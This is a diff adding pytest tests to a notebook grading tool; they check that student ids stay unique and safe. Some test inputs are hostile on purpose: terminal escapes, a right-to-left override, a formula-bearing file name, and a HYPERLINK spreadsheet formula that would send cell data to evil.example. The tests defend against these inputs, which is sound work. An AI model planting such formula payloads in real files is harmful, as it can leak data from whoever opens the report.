@@ -576,3 +576,127 @@ def test_zip_entries_that_cannot_be_unpacked_are_listed_with_why(tmp_path):
     assert found.notes == [
         "ben/02_value.ipynb: could not be unpacked from the zip (File exists)",
         f"{long_name}: could not be unpacked from the zip (File name too long)"]
+
+
+# ------------------------------------------------------------------ one learner, one id
+from microgradlab_grader.submissions import ids  # noqa: E402
+
+
+def old_slug(name: str) -> str:
+    """The rule ids replaced, for the controls: a slug alone, cut at 100 characters."""
+    import re
+    return re.sub(r"[^A-Za-z0-9._@+-]+", "_", name).strip("._-+@")[:100]
+
+
+def test_names_that_slug_alike_stay_two_learners(tmp_path):
+    touch(tmp_path / "class" / "ann lee" / "02_value.ipynb", NOTEBOOK_TEXT + " ")
+    touch(tmp_path / "class" / "ann_lee" / "02_value.ipynb")
+    touch(tmp_path / "class" / "ann  lee!" / "02_value.ipynb")
+    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    assert [(s.student, s.name) for s in found.submissions] == [
+        ("ann_lee", "ann_lee"), (student_id("ann  lee!"), "ann  lee!"),
+        (student_id("ann lee"), "ann lee")]
+    assert len({s.path for s in found.submissions}) == 3     # nobody's work vanished
+    # The control: without the hash the three names are one id (one row, two lost).
+    assert old_slug("ann lee") == old_slug("ann_lee") == old_slug("ann  lee!") == "ann_lee"
+    assert ids.slug("ann lee") == ids.slug("ann  lee!") == "ann_lee"
+
+
+def test_long_names_sharing_100_characters_stay_two_learners(tmp_path):
+    first, second = "x" * 100 + "-first", "x" * 100 + "-second"
+    touch(tmp_path / "class" / first / "02_value.ipynb")
+    touch(tmp_path / "class" / second / "02_value.ipynb")
+    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    made = [s.student for s in found.submissions]
+    assert len(set(made)) == 2 and all(len(m) <= 100 for m in made)
+    assert {s.name for s in found.submissions} == {first, second}
+    assert old_slug(first) == old_slug(second)                 # the control: one id
+
+
+def test_ids_do_not_depend_on_the_rest_of_the_class(tmp_path):
+    """A learner's id is theirs alone: adding someone never moves another's row."""
+    touch(tmp_path / "one" / "Ann Lee" / "02_value.ipynb")
+    touch(tmp_path / "one" / "smithjane_222_9_02_value.ipynb")
+    touch(tmp_path / "two" / "Ann Lee" / "02_value.ipynb")
+    touch(tmp_path / "two" / "ann_lee" / "02_value.ipynb")
+    touch(tmp_path / "two" / "smithjane_111_8_02_value.ipynb")    # another Jane Smith, first
+    touch(tmp_path / "two" / "smithjane_222_9_02_value.ipynb")
+    one = {s.name + s.student_ids.get("canvas_user", ""): s.student
+           for s in discover(tmp_path / "one", ["02_value"], tmp_path / "work").submissions}
+    two = {s.name + s.student_ids.get("canvas_user", ""): s.student
+           for s in discover(tmp_path / "two", ["02_value"], tmp_path / "work").submissions}
+    assert one["Ann Lee"] == two["Ann Lee"] == "Ann_Lee~a36e143c"
+    assert one["smithjane222"] == two["smithjane222"] == "smithjane_222"
+    assert two["smithjane111"] == "smithjane_111" and two["ann_lee"] == "ann_lee"
+
+
+def test_canvas_and_moodle_people_with_one_name_stay_two(tmp_path):
+    dl = tmp_path / "dl"
+    touch(dl / "smithjane_111_901_02_value.ipynb")
+    touch(dl / "smithjane_222_902_02_value.ipynb")
+    touch(dl / "Jane Smith_101_assignsubmission_file_02_value.ipynb")
+    touch(dl / "Jane Smith_102_assignsubmission_file_02_value.ipynb")
+    found = discover(dl, ["02_value"], tmp_path / "work")
+    by = {s.student: s for s in found.submissions}
+    assert set(by) == {"smithjane_111", "smithjane_222", student_id("Jane Smith_101"),
+                       student_id("Jane Smith_102")}
+    assert {s.name for s in found.submissions} == {"smithjane", "Jane Smith"}
+    assert all(s.path is not None for s in found.submissions)
+    assert by["smithjane_222"].student_ids == {"canvas_user": "222", "canvas_submission": "902"}
+
+
+def test_control_characters_and_newlines_in_names_never_make_an_id(tmp_path):
+    names = ["ann\n", "ben\x1b[31m", "cat\u202eraboof", "=HYPERLINK(\"x\")", "dan\r"]
+    for name in names:
+        touch(tmp_path / "class" / name / "02_value.ipynb")
+    touch(tmp_path / "class" / "eve" / "=1+1\nnotes.txt")
+    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    assert {s.name for s in found.submissions} == set(names) | {"eve"}
+    for s in found.submissions:
+        assert ids.STUDENT_ID.fullmatch(s.student) or "~" in s.student
+        assert s.student.isprintable() and "\n" not in s.student and "/" not in s.student
+    assert "ann" not in {s.student for s in found.submissions}
+    assert found.unrecognised == ["eve/=1+1\nnotes.txt"]     # kept raw; report.txt escapes it
+    # The control: the old anchored pattern let a trailing newline through as an id.
+    import re
+    assert re.match("^" + ids.STUDENT_ID.pattern + "$", "ann\n")
+
+
+def test_a_name_that_is_not_utf8_gets_an_id_and_a_storable_name(tmp_path):
+    (tmp_path / "class").mkdir()
+    os.mkdir(os.path.join(os.fsencode(tmp_path / "class"), b"caf\xe9"))
+    touch(Path(os.fsdecode(os.path.join(os.fsencode(tmp_path / "class"), b"caf\xe9")))
+          / "02_value.ipynb")
+    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    (row,) = found.submissions
+    assert row.student.startswith("caf~") and row.name == "caf\\xe9"
+    row.name.encode("utf-8")          # storable, writable
+
+
+def test_two_names_with_one_id_stop_discovery_naming_both(tmp_path, monkeypatch):
+    touch(tmp_path / "class" / "ann lee" / "02_value.ipynb")
+    touch(tmp_path / "class" / "ann  lee" / "02_value.ipynb")
+    monkeypatch.setattr(ids, "fingerprint", lambda raw: "00000000")   # a collision, forced
+    with pytest.raises(SubmissionError) as caught:
+        discover(tmp_path / "class", ["02_value"], tmp_path / "work")
+    message = str(caught.value)
+    assert "\n" not in message and "'ann lee'" in message and "'ann  lee'" in message
+    assert "ann_lee~00000000" in message
+
+
+def test_student_ids_are_stable_across_machines():
+    import hashlib
+    assert student_id("Ann Lee") == "Ann_Lee~" + hashlib.sha256(b"Ann Lee").hexdigest()[:8]
+    assert student_id("ann") == "ann" and student_id("José Núñez").startswith("Jose_Nunez~")
+    assert student_id("张伟").startswith("learner~") and student_id("---").startswith("learner~")
+
+
+def test_a_timestamp_with_a_formula_is_an_unknown_time(tmp_path):
+    folder = tmp_path / "submitted" / "ann" / "02_value"
+    touch(folder / "02_value.ipynb")
+    touch(folder / "timestamp.txt", '=HYPERLINK("http://evil.example/?"&A1,"on time")\n')
+    (row,) = discover(tmp_path, ["02_value"], tmp_path / "work").submissions
+    assert row.timestamp == untrusted.UNKNOWN_TIME
+    assert row.warnings == ("submitted/ann/02_value/timestamp.txt: not a time nbgrader writes "
+                            "nor ISO 8601: '=HYPERLINK(\"http://evil.example/?\"&A1,\"on "
+                            "time\")'; lateness unknown",)
